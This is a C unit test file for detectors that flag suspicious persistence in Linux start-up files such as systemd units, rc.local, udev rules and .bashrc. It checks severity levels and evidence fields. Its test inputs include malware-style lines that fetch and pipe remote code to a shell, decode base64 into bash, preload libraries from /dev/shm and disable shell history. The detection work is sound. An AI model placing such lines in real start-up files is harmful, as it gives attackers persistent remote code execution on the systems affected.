/*
 * test_det_startup.c - the start-up file detectors, facts in, findings out:
 *   RM-PER-004 a start-up line that fetches or decodes and runs code, runs
 *              a program from a writable or hidden directory, runs and
 *              deletes a program, or preloads a library
 *   RM-PER-005 a foreign, writable, wrongly owned or immutable start-up
 *              file, an executable generator no package installed
 * Lines are read with the real parser (collect/startup_parse.c).
 */
#include "collect/startup_parse.h"
#include "testlib.h"

#define MAXF 8
#define MAXE 32

struct fx {
	struct snapshot *s;
	struct startup_file files[MAXF];
	struct startup_entry ents[MAXE];
};

static struct fx *
fx_new(void)
{
	struct fx *x = xcalloc(1, sizeof(*x));

	x->s = tl_snap_new();
	return x;
}

static void
fx_free(struct fx *x)
{
	x->s->startup_files = NULL;
	x->s->startup = NULL;
	x->s->nstartup_files = x->s->nstartup = 0;
	tl_snap_free(x->s);
	free(x);
}

/* A file with its line-0 entry (as the collector makes them). */
static struct startup_file *
file(struct fx *x, const char *path, enum startup_kind kind)
{
	struct startup_file *f = &x->files[x->s->nstartup_files++];
	struct startup_entry *e = &x->ents[x->s->nstartup++];

	memset(f, 0, sizeof(*f));
	f->path = path;
	f->kind = kind;
	f->mode = 0100644;
	f->magic = CRONM_TEXT;
	f->pkgdb = true;
	memset(e, 0, sizeof(*e));
	e->file = f;
	x->s->startup_files = x->files;
	x->s->startup = x->ents;
	return f;
}

/* A line of f: a command (directive NULL or an Exec*), or with
 * env_only, an environment line. */
static struct startup_entry *
line(struct fx *x, struct startup_file *f, const char *directive,
     const char *text, bool env_only)
{
	struct startup_entry *e = &x->ents[x->s->nstartup++];
	struct startup_cmd c;

	if (env_only) {
		memset(&c, 0, sizeof(c));
		startup_env(text, strlen(text), &c);
	} else {
		startup_cmd(text, strlen(text), &c);
	}
	memset(e, 0, sizeof(*e));
	e->file = f;
	e->line = (uint32_t)x->s->nstartup;
	e->directive = directive;
	e->command = text;
	e->flags = c.cron.flags;
	e->sflags = c.flags;
	e->path = c.cron.path[0] ? tl_sdup(x->s, c.cron.path) : NULL;
	e->url = c.cron.url[0] ? tl_sdup(x->s, c.cron.url) : NULL;
	e->lib = c.lib[0] ? tl_sdup(x->s, c.lib) : NULL;
	e->program = c.flags & SCMD_RUN_DELETE ? tl_sdup(x->s, c.deleted) :
	    c.nprogs ? tl_sdup(x->s, c.progs[0]) : NULL;
	return e;
}

/* The severity of the one finding of rule id, or -1 for none. */
static int
one(struct fx *x, const char *id, struct findings *keep)
{
	struct findings fs;
	int sev = -1;

	tl_run_one(x->s, id, &fs);
	if (fs.n > 1)
		fail_msg("%zu %s findings, expected at most one", fs.n, id);
	if (fs.n == 1)
		sev = (int)fs.v[0]->severity;
	if (keep)
		*keep = fs;
	else
		findings_free(&fs);
	return sev;
}

/* One line in one file of kind k: the RM-PER-004 severity (-1: none). */
static int
sev_of(enum startup_kind k, const char *path, const char *directive,
       const char *text, bool restart_always, bool packaged)
{
	struct fx *x = fx_new();
	struct startup_file *f = file(x, path, k);
	int sev;

	f->restart_always = restart_always;
	f->packaged = packaged;
	if (k == STARTUP_USER_SHELL || k == STARTUP_USER_UNIT)
		f->user = "dev";
	line(x, f, directive, text, k == STARTUP_ENVIRONMENT ||
	    (directive && strcmp(directive, "Environment") == 0));
	sev = one(x, "RM-PER-004", NULL);
	fx_free(x);
	return sev;
}

#define UNIT "/etc/systemd/system/x.service"

static void
test_lines(void **state)
{
	(void)state;
	/* the samples */
	assert_int_equal(sev_of(STARTUP_UNIT, UNIT, "ExecStart",
	    "/var/tmp/nginx_kel sv", true, false), SEV_HIGH);
	assert_int_equal(sev_of(STARTUP_UNIT, UNIT, "ExecStart",
	    "/bin/bash -c 'cp -f -r -- /bin/knlib /bin/klibsystem4 && "
	    "/bin/klibsystem4 >/dev/null 2>&1 && rm -rf -- /bin/klibsystem4'",
	    true, false), SEV_HIGH);
	assert_int_equal(sev_of(STARTUP_UNIT, UNIT, "ExecStart",
	    "/var/.httpd/...../httpd", true, false), SEV_HIGH);
	assert_int_equal(sev_of(STARTUP_INITD, "/etc/init.d/S60dlump", NULL,
	    "/usr/bin/.Xl1/kde", false, false), SEV_HIGH);
	assert_int_equal(sev_of(STARTUP_SHELL, "/etc/profile.d/profile.sh",
	    NULL, "/home/www/.Xl1/kde & 2>/dev/null", false, false), SEV_HIGH);
	/* fetched code: high, critical when systemd restarts it for ever,
	 * and a package's file is not exempt */
	assert_int_equal(sev_of(STARTUP_RCLOCAL, "/etc/rc.local", NULL,
	    "curl -fsSL http://x.example/i | sh", false, false), SEV_HIGH);
	assert_int_equal(sev_of(STARTUP_UNIT, UNIT, "ExecStart",
	    "/bin/sh -c 'wget -q -O- http://1.2.3.4/x | sh'", true, false),
	    SEV_CRITICAL);
	assert_int_equal(sev_of(STARTUP_UNIT, UNIT, "ExecStart",
	    "/bin/sh -c 'wget -q -O- http://1.2.3.4/x | sh'", false, true),
	    SEV_HIGH);
	assert_int_equal(sev_of(STARTUP_UDEV, "/etc/udev/rules.d/9.rules",
	    "RUN", "/bin/sh -c 'echo Y2Qx|base64 -d|bash'", false, false),
	    SEV_HIGH);
	assert_int_equal(sev_of(STARTUP_USER_SHELL, "/home/dev/.bashrc", NULL,
	    "python -c 'import urllib.request; exec(urllib.request.urlopen("
	    "\"http://185.174.136.204/y\").read())'", false, false), SEV_HIGH);
	/* the environment */
	assert_int_equal(sev_of(STARTUP_ENVIRONMENT, "/etc/environment", NULL,
	    "LD_PRELOAD=/usr/local/lib/libsystem.so", false, false), SEV_HIGH);
	assert_int_equal(sev_of(STARTUP_UNIT, UNIT, "Environment",
	    "\"LD_PRELOAD=/dev/shm/.x.so\"", false, false), SEV_HIGH);
	assert_int_equal(sev_of(STARTUP_UNIT, UNIT, "Environment",
	    "LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2", false,
	    false), SEV_MEDIUM);
	assert_int_equal(sev_of(STARTUP_USER_SHELL, "/home/dev/.bashrc", NULL,
	    "export LD_PRELOAD=/usr/lib/libtcmalloc.so", false, false),
	    SEV_LOW);
	assert_int_equal(sev_of(STARTUP_SHELL, "/etc/profile.d/h.sh", NULL,
	    "export HISTFILE=/dev/null", false, false), SEV_MEDIUM);
	assert_int_equal(sev_of(STARTUP_SHELL, "/etc/profile.d/p.sh", NULL,
	    "export PATH=/tmp:$PATH", false, false), SEV_MEDIUM);
	/* a package's own file: held at medium */
	assert_int_equal(sev_of(STARTUP_UNIT, UNIT, "ExecStart",
	    "/var/tmp/x", false, true), SEV_MEDIUM);
	/* working directories say less than programs */
	assert_int_equal(sev_of(STARTUP_UNIT, UNIT, "WorkingDirectory",
	    "/var/tmp/.11", false, false), SEV_MEDIUM);
	/* administrators: nothing, or below medium */
	assert_int_equal(sev_of(STARTUP_UNIT, UNIT, "ExecStart",
	    "/usr/local/bin/myapp --serve", true, false), -1);
	assert_int_equal(sev_of(STARTUP_UNIT, UNIT, "ExecStart",
	    "/usr/sbin/ModemManager", false, true), -1);
	assert_int_equal(sev_of(STARTUP_UNIT, UNIT, "ExecStart",
	    "/home/dev/.nvm/versions/node/v20/bin/node app.js", false, false),
	    SEV_LOW);
	assert_int_equal(sev_of(STARTUP_USER_SHELL, "/root/.bashrc", NULL,
	    ". \"/root/.acme.sh/acme.sh.env\"", false, false), -1);
	assert_int_equal(sev_of(STARTUP_USER_SHELL, "/root/.bashrc", NULL,
	    "/root/.local/bin/tool --init", false, false), -1);
	assert_int_equal(sev_of(STARTUP_USER_SHELL, "/home/dev/.bashrc", NULL,
	    "[ -x /usr/bin/lesspipe ] && eval \"$(SHELL=/bin/sh lesspipe)\"",
	    false, false), -1);
	assert_int_equal(sev_of(STARTUP_RCLOCAL, "/etc/rc.local", NULL,
	    "exit 0", false, false), -1);
	assert_int_equal(sev_of(STARTUP_UNIT, UNIT, "ExecStart",
	    "/bin/sh -c 'rm -rf /tmp/.X11-unix; /usr/bin/Xvfb :0'", false,
	    false), -1);
	assert_int_equal(sev_of(STARTUP_UNIT, UNIT, "ExecStartPre",
	    "/bin/rm -f /run/app.pid", false, false), -1);
	assert_int_equal(sev_of(STARTUP_UNIT, UNIT, "ExecStart",
	    "/usr/bin/curl -fsS https://hc-ping.com/x", false, false), -1);
}

static void
test_evidence(void **state)
{
	struct fx *x = fx_new();
	struct startup_file *f = file(x, "/etc/systemd/system/dnsconfigs.service",
	    STARTUP_UNIT);
	struct findings fs;
	const struct finding *g;

	(void)state;
	f->unit = "dnsconfigs.service";
	f->restart_always = true;
	f->mode = 0100644;
	line(x, f, "ExecStart", "/var/tmp/nginx_kel sv", false);
	assert_int_equal(one(x, "RM-PER-004", &fs), SEV_HIGH);
	g = fs.v[0];
	assert_int_equal(g->confidence, CONF_HIGH);
	tl_assert_contains(g->message, "/etc/systemd/system/dnsconfigs.service:2");
	tl_assert_contains(g->message, "Restart=always");
	assert_string_equal(g->file_path, "/etc/systemd/system/dnsconfigs.service");
	assert_string_equal(tl_ev_str(g, "directive"), "ExecStart");
	assert_string_equal(tl_ev_str(g, "command"), "/var/tmp/nginx_kel sv");
	assert_string_equal(tl_ev_str(g, "path"), "/var/tmp/nginx_kel");
	assert_string_equal(tl_ev_str(g, "program"), "/var/tmp/nginx_kel");
	assert_string_equal(tl_ev_str(g, "unit"), "dnsconfigs.service");
	assert_string_equal(tl_ev_str(g, "restart"), "always");
	assert_string_equal(tl_ev_str(g, "file_mode"), "0644");
	assert_string_equal(tl_ev_str(g, "file_kind"), "systemd unit");
	assert_true(tl_ev_has(g, "does", "use a world-writable directory"));
	assert_string_equal(g->rule->category, "persistence");
	findings_free(&fs);
	/* the file-level detector says nothing about a normal file */
	assert_int_equal(one(x, "RM-PER-005", NULL), -1);
	fx_free(x);
}

/* RM-PER-005 on one file. */
static int
file_sev(enum startup_kind k, const char *path, uint32_t mode, uint32_t uid,
	 int magic, bool packaged, const char *user, uint32_t user_uid)
{
	struct fx *x = fx_new();
	struct startup_file *f = file(x, path, k);
	int sev;

	f->mode = mode;
	f->uid = uid;
	f->magic = magic;
	f->packaged = packaged;
	f->user = user;
	f->user_uid = user_uid;
	sev = one(x, "RM-PER-005", NULL);
	fx_free(x);
	return sev;
}

static void
test_files(void **state)
{
	struct fx *x;
	struct startup_file *f;

	(void)state;
	assert_int_equal(file_sev(STARTUP_GENERATOR,
	    "/etc/systemd/system-generators/g", 0100755, 0, CRONM_TEXT, false,
	    NULL, 0), SEV_HIGH);
	assert_int_equal(file_sev(STARTUP_GENERATOR,
	    "/usr/lib/systemd/system-generators/systemd-fstab-generator",
	    0100755, 0, CRONM_ELF, true, NULL, 0), -1);
	assert_int_equal(file_sev(STARTUP_UNIT, UNIT, 0100644, 0, CRONM_ELF,
	    false, NULL, 0), SEV_HIGH);
	assert_int_equal(file_sev(STARTUP_INITD, "/etc/init.d/x", 0100755, 0,
	    CRONM_ELF, false, NULL, 0), SEV_HIGH);
	assert_int_equal(file_sev(STARTUP_INITD, "/etc/init.d/x", 0100755, 0,
	    CRONM_BINARY, false, NULL, 0), SEV_HIGH);
	assert_int_equal(file_sev(STARTUP_UNIT, UNIT, 0100666, 0, CRONM_TEXT,
	    true, NULL, 0), SEV_HIGH);
	assert_int_equal(file_sev(STARTUP_USER_SHELL, "/home/dev/.bashrc",
	    0100666, 1002, CRONM_TEXT, false, "dev", 1002), SEV_MEDIUM);
	assert_int_equal(file_sev(STARTUP_SHELL, "/etc/profile.d/x.sh",
	    0100644, 1000, CRONM_TEXT, false, NULL, 0), SEV_MEDIUM);
	assert_int_equal(file_sev(STARTUP_USER_SHELL, "/home/dev/.bashrc",
	    0100644, 1003, CRONM_TEXT, false, "dev", 1002), SEV_MEDIUM);
	/* a user's own file, root's file in a home, a link's 0777 */
	assert_int_equal(file_sev(STARTUP_USER_SHELL, "/home/dev/.bashrc",
	    0100644, 1002, CRONM_TEXT, false, "dev", 1002), -1);
	assert_int_equal(file_sev(STARTUP_USER_SHELL, "/home/dev/.profile",
	    0100644, 0, CRONM_TEXT, false, "dev", 1002), -1);
	assert_int_equal(file_sev(STARTUP_UNIT, UNIT, 0120777, 0, CRONM_TEXT,
	    false, NULL, 0), -1);
	assert_int_equal(file_sev(STARTUP_UNIT,
	    "/usr/lib/systemd/system/dpkg-deb-package.service", 0100644, 0,
	    CRONM_TEXT, false, NULL, 0), SEV_LOW);
	/* an image unpacked by a user: owners say nothing */
	x = fx_new();
	f = file(x, "/etc/profile.d/x.sh", STARTUP_SHELL);
	f->uid = 1000;
	f->owners_unknown = true;
	assert_int_equal(one(x, "RM-PER-005", NULL), -1);
	fx_free(x);
	/* immutable, with what the file runs in the evidence */
	x = fx_new();
	f = file(x, UNIT, STARTUP_UNIT);
	f->immutable = true;
	line(x, f, "ExecStart", "/usr/bin/kthreadd -d", false);
	{
		struct findings fs;

		assert_int_equal(one(x, "RM-PER-005", &fs), SEV_MEDIUM);
		assert_true(tl_ev_has(fs.v[0], "runs", "/usr/bin/kthreadd -d"));
		findings_free(&fs);
	}
	fx_free(x);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_lines),
		cmocka_unit_test(test_evidence),
		cmocka_unit_test(test_files),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
